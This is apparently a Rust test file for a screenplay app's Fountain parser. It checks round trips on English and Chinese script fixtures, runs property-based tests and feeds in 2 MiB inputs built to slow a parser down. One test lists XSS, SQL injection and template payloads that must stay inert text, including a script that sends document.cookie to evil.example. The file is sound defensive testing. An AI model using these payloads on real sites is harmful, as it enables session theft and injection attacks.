//! Fountain import and export at the boundary: the script fixtures in
//! `tests/fixtures/scripts/` read into the expected scenes, and every script survives
//! parse → export → parse unchanged, for the fixtures and for generated scripts.

use std::fs;
use std::path::PathBuf;

use duanju_studio::domain::i18n::Lang;
use duanju_studio::domain::script::fountain::{
    parse, scenes, to_fountain, with_scene_ids, Element, SceneIdSource, Script,
};
use proptest::prelude::*;

fn fixture(name: &str) -> String {
    let path: PathBuf = [env!("CARGO_MANIFEST_DIR"), "tests/fixtures/scripts", name]
        .iter()
        .collect();
    fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// What a fixture must read into.
struct Expect<'a> {
    title_keys: &'a [&'a str],
    /// Per scene: id, where it came from, heading, speaking characters.
    scenes: &'a [(&'a str, SceneIdSource, &'a str, &'a [&'a str])],
    diagnostics: &'a [&'a str],
    /// Texts that must survive verbatim in some element or title-page value.
    verbatim: &'a [&'a str],
}

/// Parses a fixture, compares it with `expect`, and checks the round trips: through Fountain
/// text, and through writing the scene ids back and re-importing.
fn check(name: &str, expect: Expect) {
    let source = fixture(name);
    let (script, diagnostics) = parse(&source);

    let keys: Vec<&str> = script.title_page.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(keys, expect.title_keys, "{name}: title page");

    let kinds: Vec<&str> = diagnostics.iter().map(|d| d.kind()).collect();
    assert_eq!(kinds, expect.diagnostics, "{name}: diagnostics");
    for d in &diagnostics {
        assert!(!d.message(Lang::ZhCn).is_empty(), "{name}: {d:?}");
        assert!(!d.message(Lang::En).is_empty(), "{name}: {d:?}");
    }

    let list = scenes(&script);
    let got: Vec<(&str, SceneIdSource, &str, Vec<&str>)> = list
        .iter()
        .map(|s| {
            (
                s.id.as_str(),
                s.id_source,
                s.heading.as_str(),
                s.characters.iter().map(String::as_str).collect(),
            )
        })
        .collect();
    let want: Vec<(&str, SceneIdSource, &str, Vec<&str>)> = expect
        .scenes
        .iter()
        .map(|(id, source, heading, chars)| (*id, *source, *heading, chars.to_vec()))
        .collect();
    assert_eq!(got, want, "{name}: scenes");

    let everything = format!("{script:?}");
    for text in expect.verbatim {
        let escaped = format!("{text:?}");
        let escaped = &escaped[1..escaped.len() - 1];
        assert!(
            everything.contains(escaped),
            "{name}: {text:?} kept verbatim"
        );
    }

    let exported = to_fountain(&script);
    assert_eq!(parse(&exported).0, script, "{name}: round trip");
    for scene in &list {
        let (alone, _) = parse(&scene.script_text);
        assert_eq!(
            alone.elements,
            script.elements[scene.elements.clone()],
            "{name}: scene {} text",
            scene.id
        );
    }

    let ids: Vec<String> = list.iter().map(|s| s.id.clone()).collect();
    let reimported = scenes(&parse(&to_fountain(&with_scene_ids(&script, &ids))).0);
    let again: Vec<&str> = reimported.iter().map(|s| s.id.as_str()).collect();
    assert_eq!(again, ids, "{name}: ids survive a re-import");
}

#[test]
fn english_script() {
    check(
        "ceo_returns.fountain",
        Expect {
            title_keys: &["Title", "Credit", "Author", "Draft date", "Contact"],
            scenes: &[
                (
                    "1",
                    SceneIdSource::SceneNumber,
                    "INT. SKYLINE GROUP LOBBY - DAY",
                    &["MEI", "DELIVERY MAN"],
                ),
                (
                    "2",
                    SceneIdSource::SceneNumber,
                    "INT. BOARDROOM - DAY",
                    &["CHAIRMAN CHEN", "MEI", "CHEN"],
                ),
                (
                    "2A",
                    SceneIdSource::SceneNumber,
                    "EXT. ROOFTOP - NIGHT",
                    &["MEI", "CHEN"],
                ),
                (
                    "3",
                    SceneIdSource::SceneNumber,
                    "FLASHBACK - TEN YEARS EARLIER",
                    &[],
                ),
            ],
            diagnostics: &[],
            verbatim: &["studio@example.com", "The rain keeps falling"],
        },
    );
    let (script, _) = parse(&fixture("ceo_returns.fountain"));
    let has = |element: Element| script.elements.contains(&element);
    assert!(has(Element::Character {
        name: "CHAIRMAN CHEN".into(),
        extension: Some("(V.O.)".into()),
        dual: false
    }));
    assert!(has(Element::Character {
        name: "CHEN".into(),
        extension: None,
        dual: true
    }));
    assert!(has(Element::Transition {
        text: "SMASH CUT TO:".into()
    }));
    assert!(has(Element::Transition {
        text: "FADE OUT.".into()
    }));
    assert!(has(Element::Centered {
        text: "TO BE CONTINUED".into()
    }));
    assert!(has(Element::PageBreak));
    assert!(has(Element::Section {
        depth: 1,
        text: "Episode 1".into()
    }));
    assert!(has(Element::Boneyard {
        text: " Cut for time:\nMEI faints. A board member catches her.\n".into()
    }));
    assert!(has(Element::Note {
        text: "Close-up on the bag: the chairman's monogram.".into()
    }));
    assert!(has(Element::Parenthetical {
        text: "(without looking up)".into()
    }));
}

#[test]
fn chinese_script() {
    let derived = scenes(&parse(&fixture("bazong_guilai.fountain")).0)[3]
        .id
        .clone();
    assert!(derived.starts_with("s4-"), "{derived}");
    check(
        "bazong_guilai.fountain",
        Expect {
            title_keys: &["Title", "Credit", "Author", "Draft date"],
            scenes: &[
                (
                    "ep3-s1",
                    SceneIdSource::Note,
                    "林家客厅 - 夜",
                    &["林梅", "张伟", "林母"],
                ),
                (
                    "ep3-s2",
                    SceneIdSource::Note,
                    "医院走廊 - 日",
                    &["护士", "林梅"],
                ),
                (
                    "3-3",
                    SceneIdSource::SceneNumber,
                    "INT. 星辰集团 顶层办公室 - 日",
                    &["秘书", "张伟"],
                ),
                (&derived, SceneIdSource::Derived, "EXT. 江边 - 夜", &[]),
            ],
            diagnostics: &[],
            verbatim: &["（冷笑）", "解释你是“星辰集团”的总裁？", "（未完待续）"],
        },
    );
    let (script, _) = parse(&fixture("bazong_guilai.fountain"));
    assert!(script.elements.contains(&Element::Character {
        name: "张伟".into(),
        extension: Some("(O.S.)".into()),
        dual: false
    }));
    assert!(script.elements.contains(&Element::Character {
        name: "林母".into(),
        extension: None,
        dual: true
    }));
    assert_eq!(
        scenes(&script)[0].synopsis.as_deref(),
        Some("林梅发现丈夫隐瞒了真实身份。")
    );
}

#[test]
fn hostile_script_is_kept_as_text() {
    check(
        "hostile.fountain",
        Expect {
            title_keys: &["Title", "Author"],
            scenes: &[
                (
                    "x1",
                    SceneIdSource::SceneNumber,
                    "INT. <SCRIPT>ALERT(1)</SCRIPT> - NIGHT",
                    &["HACKER", "<iframe src=javascript:alert(1)>"],
                ),
                ("x1-2", SceneIdSource::SceneNumber, "INT. ROOM", &[]),
            ],
            diagnostics: &["duplicate_scene_number", "unclosed_boneyard"],
            verbatim: &[
                "<script>alert('title')</script>",
                "<img src=x onerror=alert(1)>",
                "<script>document.location='https://evil.example/?c='+document.cookie</script>",
                "<svg onload=alert(1)>",
                "(<b>bold</b>)",
                "<script>alert('note')</script>",
                "<marquee>FADE OUT</marquee>",
                "${7*7} <style>body{display:none}</style>",
                "'; DROP TABLE scenes; --",
                "/* <script>never closed",
            ],
        },
    );
}

/// Canonical text pieces: trimmed, non-empty, free of the marks that would change an
/// element's kind inside its own syntax.
fn words(first: &'static str) -> impl Strategy<Value = String> {
    (first, "[A-Za-z0-9 ,.'?!林梅张伟你好吗]{0,12}")
        .prop_map(|(a, b)| format!("{a}{b}").trim().to_string())
}

fn heading() -> impl Strategy<Value = Element> {
    let prefix = prop_oneof![
        Just("INT. "),
        Just("EXT. "),
        Just("EST. "),
        Just("int/ext "),
        Just("I/E "),
        Just("")
    ];
    (
        prefix,
        words("[A-Z林客]"),
        proptest::option::of("[0-9A-Z][0-9A-Z.-]{0,3}"),
    )
        .prop_map(|(prefix, text, scene_number)| Element::SceneHeading {
            text: format!("{prefix}{text}").trim().to_string(),
            scene_number,
        })
}

fn action() -> impl Strategy<Value = Element> {
    let line = "[ \t]{0,2}[!-~林梅][ -~林梅“”]{0,16}".prop_map(|l| l.trim_end().to_string());
    proptest::collection::vec(line, 1..4).prop_map(|lines| Element::Action {
        text: lines.join("\n"),
    })
}

/// A cue and its dialogue: never two dialogue elements in a row.
fn dialogue_block() -> impl Strategy<Value = Vec<Element>> {
    let name = prop_oneof![
        "[A-Z][A-Z ]{0,6}[A-Z]",
        "[林梅张伟]{1,3}",
        "[A-Z][a-z]{1,5}",
        "(INT|EXT) [A-Z]{1,3}",
        "[A-Z]{1,4} TO:",
    ];
    let extension = proptest::option::of(prop_oneof![
        Just("(V.O.)".to_string()),
        Just("(O.S.)".to_string()),
        Just("(CONT'D)".to_string()),
        Just("(v.o.)".to_string()),
        Just("（画外音）".to_string()),
    ]);
    let speech = proptest::collection::vec(words("[A-Za-z林你!@#~=.>]"), 1..3).prop_map(|lines| {
        Element::Dialogue {
            text: lines.join("\n"),
        }
    });
    let paren = "[a-z 冷笑]{0,8}".prop_map(|t| Element::Parenthetical {
        text: format!("({t})"),
    });
    (
        name,
        extension,
        any::<bool>(),
        any::<bool>(),
        proptest::collection::vec((paren, speech), 1..3),
    )
        .prop_map(|(name, extension, dual, paren_first, pairs)| {
            let mut out = vec![Element::Character {
                name: name.trim().to_string(),
                extension,
                dual,
            }];
            for (i, (paren, speech)) in pairs.into_iter().enumerate() {
                if paren_first || i > 0 {
                    out.push(paren);
                }
                out.push(speech);
            }
            out
        })
}

fn single() -> impl Strategy<Value = Element> {
    prop_oneof![
        heading(),
        action(),
        words("[A-Z]").prop_map(|t| Element::Transition {
            text: format!("{} TO:", t.to_uppercase())
        }),
        words("[A-Za-z]").prop_map(|text| Element::Transition { text }),
        words("[A-Za-z林]").prop_map(|text| Element::Centered { text }),
        (1usize..4, words("[A-Za-z0-9#]"))
            .prop_map(|(depth, text)| Element::Section { depth, text }),
        words("[A-Za-z=林]").prop_map(|text| Element::Synopsis { text }),
        proptest::collection::vec("[a-z :林]{0,6}[a-z]", 1..3).prop_map(|lines| Element::Note {
            text: lines.join("\n")
        }),
        "[a-z :*/\n]{0,12}[a-z]"
            .prop_filter("a boneyard cannot hold */", |t| !t.contains("*/"))
            .prop_map(|text| Element::Boneyard { text }),
        Just(Element::PageBreak),
        proptest::collection::vec("[a-z ,~]{0,8}", 1..3).prop_map(|lines| Element::Lyric {
            text: lines
                .iter()
                .map(|l| l.trim().to_string())
                .collect::<Vec<_>>()
                .join("\n")
        }),
    ]
}

fn script() -> impl Strategy<Value = Script> {
    let block = prop_oneof![
        3 => single().prop_map(|e| vec![e]),
        1 => dialogue_block(),
    ];
    let title = proptest::option::of(proptest::collection::vec(
        ("[A-Z][a-z]{1,6}", "[A-Za-z 林]{0,6}[a-z]"),
        0..3,
    ));
    (title, proptest::collection::vec(block, 0..12)).prop_map(|(title, blocks)| {
        let mut title_page: Vec<(String, String)> = Vec::new();
        if let Some(extra) = title {
            title_page.push(("Title".into(), "霸总归来".into()));
            title_page.extend(extra.into_iter().map(|(k, v)| (k, v.trim().to_string())));
        }
        Script {
            title_page,
            elements: blocks.into_iter().flatten().collect(),
        }
    })
}

/// Lines that exercise the grammar's corners.
fn fountainish() -> impl Strategy<Value = String> {
    let line = prop_oneof![
        Just(String::new()),
        Just("  ".to_string()),
        "(INT|EXT|EST|I/E|int)[. ][A-Z 林]{0,6}( #[0-9A-Z]{1,3}#)?",
        "[.!@~#=>\\[\\]/*^( ]{1,3}[A-Za-z林 ]{0,6}[<)\\]*/^:]{0,3}",
        "[A-Z ]{1,8}( \\(V\\.O\\.\\))?( \\^)?",
        "[A-Z ]{1,6}TO:",
        "(Title|Author|Notes|Foo)(:| :)[ a-z]{0,5}",
        "[ -~]{0,20}",
        "[林梅“”（）：，]{1,5}",
    ];
    proptest::collection::vec(line, 0..24).prop_map(|lines| lines.join("\n"))
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 512,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    /// A script built from canonical elements exports to text that reads back to itself.
    #[test]
    fn generated_scripts_round_trip(script in script()) {
        let text = to_fountain(&script);
        prop_assert_eq!(parse(&text).0, script, "exported as {:?}", text);
    }

    /// Whatever the input, parse → export → parse gives the same script.
    #[test]
    fn any_text_round_trips(text in fountainish()) {
        let (script, _) = parse(&text);
        let exported = to_fountain(&script);
        prop_assert_eq!(parse(&exported).0, script, "exported as {:?}", exported);
    }

    /// Arbitrary Unicode never panics and round-trips too.
    #[test]
    fn arbitrary_text_round_trips(text in any::<String>()) {
        let (script, _) = parse(&text);
        let _ = scenes(&script);
        let exported = to_fountain(&script);
        prop_assert_eq!(parse(&exported).0, script, "exported as {:?}", exported);
    }
}

// Hostile texts of 2 MiB (the import cap), one per pattern a parser that rescans from every
// position makes quadratic: before the scans remembered their stop line each of these took
// hours. Their speed is measured by `examples/bench_fountain.rs` (`make bench`,
// `fountain_hostile_2mib_ms`); that no line is scanned twice is checked deterministically by
// the unit test `block_scans_look_at_each_line_once`. Here: what they read into.

const TWO_MIB: usize = 2 * 1024 * 1024;

/// `unit` repeated to 2 MiB, then `tail`; and the number of repeats.
fn hostile(unit: &str, tail: &str) -> (String, usize) {
    let n = TWO_MIB / unit.len();
    (unit.repeat(n) + tail, n)
}

fn round_trips(script: &Script) {
    assert!(parse(&to_fountain(script)).0 == *script, "round trip");
}

#[test]
fn hostile_unclosed_boneyards_are_each_action_with_a_diagnostic() {
    // The parser's documented behaviour: an unclosed `/*` does not hide the rest of the
    // script; its line is read as action, with a diagnostic.
    let (text, n) = hostile("/*\n\n", "");
    let (script, diagnostics) = parse(&text);
    assert_eq!(script.elements.len(), n);
    assert!(script
        .elements
        .iter()
        .all(|e| *e == Element::Action { text: "/*".into() }));
    assert_eq!(diagnostics.len(), n);
    assert!(diagnostics.iter().all(|d| d.kind() == "unclosed_boneyard"));
    assert_eq!(
        (diagnostics[0].line, diagnostics[n - 1].line),
        (1, 2 * n - 1)
    );
    round_trips(&script);
}

#[test]
fn hostile_boneyards_closed_at_the_end() {
    // Every opener finds the one `*/` at the very end; text after it makes each inline.
    let (text, n) = hostile("/*\n\n", "*/ x");
    let (script, diagnostics) = parse(&text);
    assert_eq!(script.elements.len(), n + 1);
    assert!(script.elements[..n]
        .iter()
        .all(|e| *e == Element::Action { text: "/*".into() }));
    assert_eq!(
        script.elements[n],
        Element::Action {
            text: "*/ x".into()
        }
    );
    assert!(diagnostics.is_empty());
    round_trips(&script);
    // A clean close: the first opener hides everything up to it, verbatim.
    let (text, _) = hostile("/*\n\n", "*/");
    let (script, diagnostics) = parse(&text);
    assert_eq!(
        script.elements,
        [Element::Boneyard {
            text: text[2..text.len() - 2].to_string()
        }]
    );
    assert!(diagnostics.is_empty());
    round_trips(&script);
}

#[test]
fn hostile_notes_over_blank_lines() {
    // A whitespace-only line ends a paragraph but not a note: every `[[` scans to the end.
    let (text, n) = hostile("[[\n \n", "");
    let (script, diagnostics) = parse(&text);
    assert_eq!(script.elements.len(), n);
    assert!(script
        .elements
        .iter()
        .all(|e| *e == Element::Action { text: "[[".into() }));
    assert_eq!(diagnostics.len(), n);
    assert!(diagnostics.iter().all(|d| d.kind() == "unclosed_note"));
    round_trips(&script);
    let (text, _) = hostile("[[\n \n", "]]");
    let (script, diagnostics) = parse(&text);
    assert_eq!(
        script.elements,
        [Element::Note {
            text: text[2..text.len() - 2].to_string()
        }]
    );
    assert!(diagnostics.is_empty());
    round_trips(&script);
    // An empty line ends each note: every one is action, none reads past its paragraph.
    let (text, n) = hostile("[[ a\nb\n\n", "]]");
    let (script, diagnostics) = parse(&text);
    assert_eq!(script.elements.len(), n + 1);
    assert_eq!(diagnostics.len(), n);
}

#[test]
fn hostile_scene_lists() {
    // One scene with tens of thousands of different cues, in order of appearance.
    let mut text = String::from("INT. A\n\n");
    let mut count = 0;
    while text.len() < TWO_MIB - 32 {
        text.push_str(&format!("C{count}\nx\n\n"));
        count += 1;
    }
    let (script, _) = parse(&text);
    let list = scenes(&script);
    assert_eq!(list.len(), 1);
    assert_eq!(list[0].characters.len(), count);
    assert_eq!(list[0].characters[..2], ["C0", "C1"]);
    assert_eq!(list[0].characters[count - 1], format!("C{}", count - 1));
    // Every heading numbered #1#: the ids are 1, 1-2, 1-3… and each repeat is reported.
    let (text, n) = hostile("INT. A #1#\n\n", "");
    let (script, diagnostics) = parse(&text);
    let list = scenes(&script);
    assert_eq!(list.len(), n);
    assert_eq!(diagnostics.len(), n - 1);
    assert_eq!(list[0].id, "1");
    assert!(list[1..]
        .iter()
        .enumerate()
        .all(|(i, s)| s.id == format!("1-{}", i + 2)));
    // An id that is already some other scene's suffixed id is skipped over.
    let (script, _) = parse("INT. A #1#\n\nINT. B #1-2#\n\nINT. C #1#\n\nINT. D #1#");
    let ids: Vec<String> = scenes(&script).into_iter().map(|s| s.id).collect();
    assert_eq!(ids, ["1", "1-2", "1-3", "1-4"]);
    let (script, _) = parse("INT. A #1#\n\nINT. C #1#\n\nINT. B #1-2#\n\nINT. D #1#");
    let ids: Vec<String> = scenes(&script).into_iter().map(|s| s.id).collect();
    assert_eq!(ids, ["1", "1-2", "1-2-2", "1-3"]);
}
